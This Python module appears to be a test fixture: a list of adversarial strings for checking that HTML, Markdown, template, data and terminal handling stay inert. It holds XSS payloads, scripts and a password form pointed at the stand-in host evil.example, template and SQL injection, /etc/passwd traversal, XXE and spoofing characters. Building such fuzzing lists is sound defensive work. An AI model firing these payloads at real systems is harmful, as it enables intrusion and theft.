"""Several hundred strings that run, break out, load, mislead or hide where they are not text."""

from collections.abc import Iterator
from itertools import product
from typing import Final

MARK: Final = "evil.example"
"""A host of theirs: no page may ask for it."""
RUN: Final = "top.pwned=1"
"""What their scripts would do."""

_ACTIVE: Final = (
    f"<script>{RUN}</script>",
    f"<script src=https://{MARK}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<p onmouseover={RUN} onclick={RUN}>hover</p>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=//{MARK}/x></object>",
    f"<embed src=//{MARK}/x>",
    f"<link rel=stylesheet href=//{MARK}/x.css>",
    f"<base href=//{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}/'>",
    f"<form action=//{MARK}/><input name=password></form>",
    f"<a href=javascript:{RUN}>press</a>",
    f"<a href='java&#9;script:{RUN}'>press</a>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<template><script>{RUN}</script></template>",
    f"<style>@import '//{MARK}/x.css'</style>",
    f"<div style='background:url(//{MARK}/x)'>",
    "<div style='position:fixed;inset:0;background:red'>",
    "<div id=__config>",
    "<form name=querySelector><input name=body></form>",
    "<dialog open>x</dialog>",
)
_BEFORE: Final = (
    "", '">', "'>", "</title>", "</script>", "-->", "</textarea>", "</style>", "</template>", "`>",
)  # fmt: skip
_HTML: Final = (
    '" onmouseover="' + RUN + '" x="', "' onfocus='" + RUN + "' autofocus='", f"` onclick={RUN} `",
    f"x onload={RUN}", "<", ">", "<>", "</", "<!--", "<!-- --!>", "<![CDATA[x]]>", "<?xml x?>",
    "<!DOCTYPE html>", "</body></html>", "</article></main>", "<b>bold", "<i", "<a href=", "<%= 7 %>",
    "&lt;script&gt;", "&#60;img src=x&#62;", "&#x3c;b&#x3e;", "&amp;lt;b&amp;gt;", "&nbsp;", "&copy",
    "&#0;", "&#xD800;", "&NotEqualTilde;", "&&&&", "AT&T", "a&b=c", "+ADw-script+AD4-", "%3Cscript%3E",
    "\\x3cscript\\x3e", "\\u003cscript\\u003e", "＜script＞", "‹script›", "<scr\u200bipt>", "<scr\x00ipt>",
    "<ſcript>", "<İmg>", "\u2028alert(1)//", "\ufeff<script>",
)  # fmt: skip
_MARKDOWN: Final = (
    f"[x](javascript:{RUN})", f"[x](//{MARK}/)", f"![x](https://{MARK}/x.png)", f"[x]: //{MARK}/",
    f"<javascript:{RUN}>", f"<https://{MARK}/>", f"https://{MARK}/", f"www.{MARK}", f"a@{MARK}",
    "# heading", "## __config", "Setext\n===", "***", "---", "___", "- [ ] task", "* point", "1) step",
    "> quote", ">! spoiler", "    code", "```js", "~~~", "`code`", "``", "$x$", "$$x$$", "\\(x\\)",
    "| a | b |", "|---|---|", ": definition", "[^1]", "[^1]: note", "*[HTML]: x", "[TOC]", "[[wiki]]",
    "**b** _i_ ~~s~~ ==m== ^^u^^ ++k++ ,,s,,", "{: onclick=alert(1) }", "{ #x .y z=1 }", "{#__config}",
    '!!! note "x"', "??? note", '=== "Tab"', "/// html | script", "///", '--8<-- "mkdocs.yml"',
    "--8<-- https://evil.example/x", ":smile:", ":material-x:", "{++x++}{--y--}{>>z<<}{==a==}",
    "![](x){ loading=lazy }", "<div markdown>", "\\*not\\*", "\\", "\\\\", "a  \nb", "(c) (tm) -- ...",
    "--- title: x ---", "---\ntitle: x\n---", "+++", "%% mermaid", ":::tip", "@import x", "!include x",
)  # fmt: skip
_TEMPLATES: Final = (
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% include 'x' %}", "{# x #}", "{{",
    "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[${7*7}]]", "{0.__class__}", "{name}", "{n!r}",
    "%(name)s", "%s%n%x", "$HOME", "$(id)", "`id`", "${IFS}", "!important", "{}", "{{}}", "\0", "\\0",
)  # fmt: skip
_DATA: Final = (
    "null", "~", "No", "yes", "true", "0x10", "1e3", "-0", "NaN", "2026-01-01", "12:30:45", "key: value",
    "- item", "? x", "@everyone", "@here", "<@123>", "<#123>", "%tag", "&anchor", "*alias", "!tag", "!!x",
    "'", '"', "'\"'", "''", '""', "#x", "x #y", "x: ", "]", "}", "[x", "{x", ",", "|", ">-", "\\n", "\\u0041",
    "]]>", "<![CDATA[", "</summary>", "<?xml version='1.0'?>", "&xxe;", "<!ENTITY x SYSTEM 'file:///x'>",
    "BEGIN:VEVENT", "END:VCALENDAR", "x\r\nATTACH:https://evil.example/", "x;y,z:w", "a\\nb\\,c\\;d",
    "=1+1", "+1", "-1", '=HYPERLINK("https://evil.example")', "' OR 1=1 --", "'; DROP TABLE x;--",
    "__proto__", "constructor", "hasOwnProperty", "toString", "undefined", "[object Object]", "__config",
    "../../../etc/passwd", "..\\..\\x", "C:\\x", "file:///etc/passwd", "/dev/null", "con", "aux.txt", ".",
    "..", "/", "//", "~/x", "-rf", "--help", "index.html", "404", "a/b", "a?b#c", "%2e%2e%2f", "%00", "%0d%0a",
)  # fmt: skip
_SEARCHED: Final = (
    "*", "a*", "+must -not", "title:x", "x~3", "x^9", "\\*", '"phrase', "(x", "[a-z]+", "(a+)+$", ".*",
    "^x$", "x|y", "-", "--", "+", "~", "^", ":", "a:b:c", "𝕏𝕐ℤ", "ﬁ", "İ", "ß", "ǅ",
)  # fmt: skip
_TERMINALS: Final = (
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\x", "\x1b[2J", "\x9b31m", "\x07",
    "a\rb", "a\bb", "\x7f", "\x85", "::error::x", " ::error::x", "::add-mask::e", "##[error]x", "x\n::warning::y",
    "::set-output name=x::y", "##vso[x]y", "\x1bP+q\x1b\\", "\x0e\x0f", "\u2028::error::x",
)  # fmt: skip
_SCRIPTS: Final = (
    "مرحبا بالعالم", "می‌خواهم خانه‌ها", "שלום עולם", "עברית and English", "abc אבג 123", "हिन्दी क्‍ष", "ক্ষ র‌্য",
    "ന്‍ മലയാളം", "ශ්‍රී ලංකා", "ไทยไม่มีช่องว่าง", "ဗမာစာ", "ខ្មែរ", "བོད་ཡིག", "日本語", "中文「引号」", "한국어",
    "ᠮᠣᠩᠭᠣᠯ", "ქართული", "አማርኛ", "Ελληνικά", "Tiếng Việt", "Zażółć gęślą jaźń", "İstanbul ıI", "ﷺ", "﷽",
    "𓀀𓁐", "𐎀𐎁", "ꦲꦏ꧀ꦱꦫ", "߃ߊߞߏ",
)  # fmt: skip
_SIGNS: Final = (
    "👩‍👩‍👧‍👦", "🏳️‍🌈", "🏴‍☠️", "👩🏽‍🚀", "🇩🇪🇧🇷", "🇩", "1️⃣", "☎︎", "🏴\U000e0067\U000e0062\U000e007f", "❤️‍🔥",
    "\u202egpj.exe", "\u2066x\u2069", "\u200fx\u200e", "a\u061cb", "\u202a" * 20, "x\u2067y", "zero\u200bwidth",
    "ad\u200dmin", "so\u00adft", "\u2060\ufeffx", "x\U000e0041\U000e0042", "a\ufe0f", "葛\U000e0100",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u031elgo", "a" + "\u0301" * 60,
    "\u0301x", "e\u0301", "\u212b", "\u1112\u1161\u11ab", "x\u3164y", "x\u2800y", "\u00a0x\u00a0", "\u3000x",
    "a\u2003b", "x\ud83dy", "\ud83d\ude00x", "x\ufffey", "\U0010ffffx", "\ue000", "\ufffd", "\ufff9x\ufffay\ufffb",
    "\u180ex", "\u115fx", "ᅟᅠx", "ﬀ ﬁ ﬂ", "①②③", "ｆｕｌｌ", "𝔉𝔯𝔞𝔨", "𝖇𝖔𝖑𝖉", "ᵗⁱⁿʸ", "🅱️", "꧁꧂", "☃", "\u20dd",
    "x" * 90, "W" * 90, "🦊" * 40, "-" * 90, "/" * 90, "&" * 90, "<" * 90, "\u0628" * 90, "\u4e2d" * 90,
    "word " * 18 + "x", "\t\tx\t\t", "x\n\n\ny", "x\r\ny", "\vx\f", " x ", "x\x00y",
)  # fmt: skip


def _all() -> Iterator[str]:
    for before, active in product(_BEFORE, _ACTIVE):
        yield f"{before}{active}"
    for some in (
        _HTML, _MARKDOWN, _TEMPLATES, _DATA, _SEARCHED, _TERMINALS, _SCRIPTS, _SIGNS
    ):  # fmt: skip
        yield from some


STRINGS: Final = tuple(dict.fromkeys(_all()))
SHORT: Final = tuple(dict.fromkeys([*_ACTIVE, *STRINGS[len(_ACTIVE) * len(_BEFORE) :]]))
"""All but the ways out of an element that only a parser's state makes different."""
